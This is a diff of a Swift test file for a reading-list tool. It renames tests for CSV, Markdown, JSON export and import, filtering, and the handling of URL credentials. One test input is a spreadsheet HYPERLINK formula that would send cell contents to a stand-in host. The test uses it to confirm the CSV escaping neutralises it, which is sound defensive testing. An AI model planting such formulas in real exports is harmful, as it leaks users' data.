@@ -31,11 +31,11 @@ import Testing
     ("it's", "it's"), ("a=1", "a=1"), ("", ""), ("\u{301}=", "\u{301}="),
     ("=HYPERLINK(\"http://e/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\""),
   ])
-  func `E01 E02 no field is a formula, and each is one field`(_ text: String, _ field: String) {
+  func `E01 E02 no field is a formula, and each stays one field`(_ text: String, _ field: String) {
     #expect(CSVText.field(text) == field)
   }
 
-  /// The titles of `hostile` as another program's reader sees them.
+  /// The titles of `hostile` as another program reads them.
   @Test(
     .enabled(
       if: FileManager.default.isExecutableFile(atPath: "/usr/bin/python3"), "there is no python3"))
@@ -83,7 +83,7 @@ import Testing
     var links: [String] = []
     var pictures = 0
     var html = 0
-    // Of the person's own notes, which are theirs, an address is a link.
+    // An address in the person's own notes may be a link.
     let lines = text.components(separatedBy: "\n").filter { !$0.hasPrefix("  ") }
     try MarkdownParser.parse(Array(lines.joined(separator: "\n").utf8)) { event in
       switch event {
@@ -105,7 +105,7 @@ import Testing
     #expect(pictures == 0, "\(text)")
   }
 
-  @Test func `the Markdown is a list that reads as the lists did`() throws {
+  @Test func `the Markdown is a list that reads like the original lists`() throws {
     try FileManager.default.copyItem(atPath: seedPath, toPath: folder.path + "/list.md")
     _ = try study("import", "-q", "list.md")
     _ = try study("done", "-q", "1", "11")
@@ -148,7 +148,7 @@ import Testing
     #expect(try study("export", "--format", "csv").output.contains(",l,,1,"))
   }
 
-  @Test func `E09 what is there stays, and nothing is left half written`() throws {
+  @Test func `E09 an existing file stays, and nothing is left half written`() throws {
     try FileManager.default.copyItem(atPath: seedPath, toPath: folder.path + "/list.md")
     let result = try study.shell(
       """
@@ -201,7 +201,7 @@ import Testing
     #expect(result.errors == "")
   }
 
-  @Test func `what json keeps is restored by a real process`() throws {
+  @Test func `everything in the JSON is restored by a real process`() throws {
     try FileManager.default.copyItem(atPath: seedPath, toPath: folder.path + "/list.md")
     let result = try study.shell(
       """
@@ -219,7 +219,7 @@ import Testing
     #expect(result.errors.contains("half.json, line "), "\(result.errors)")
   }
 
-  @Test func `a filter takes what fits, whatever its state, and the topics above it`() throws {
+  @Test func `a filter selects matches in any state, and the topics above them`() throws {
     let list =
       "# A\n\n- [One page](https://a.example/1)\n- [Two pages](https://a.example/2)\n\n# B\n\n"
       + "- [[CDK] Three pages](https://a.example/3)\n"
@@ -255,7 +255,7 @@ import Testing
   }
 
   @Test(arguments: ["md", "csv", "json"])
-  func `D07 a user name in an address stays at home, but for the archive`(_ format: String) throws {
+  func `D07 a user name in an address is exported only to the archive`(_ format: String) throws {
     let list = "- [A page](https://user:secret@a.example/1)\n- <http://user:secret@b.example/>\n"
     try Data(list.utf8).write(to: URL(fileURLWithPath: folder.path + "/l.md"))
     _ = try study("import", "-q", "l.md")
@@ -264,7 +264,7 @@ import Testing
     #expect(result.output.contains("secret") == (format == "json"), "\(result.output)")
   }
 
-  @Test func `an import of an archive names the way back`() throws {
+  @Test func `an import of an archive is answered with the command to restore it`() throws {
     try FileManager.default.copyItem(atPath: seedPath, toPath: folder.path + "/list.md")
     _ = try study("import", "-q", "list.md")
     _ = try study("export", "-q", "-o", "all.json")
